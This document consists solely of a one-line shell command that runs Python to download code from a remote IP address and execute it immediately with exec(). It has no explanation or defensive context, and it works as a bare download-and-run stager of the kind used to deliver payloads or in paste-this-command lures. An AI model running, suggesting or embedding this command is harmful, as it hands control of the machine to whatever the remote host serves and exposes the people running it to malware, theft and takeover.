python3 -c "import urllib.request as u;exec(u.urlopen('http://198.51.100.9/p').read())"
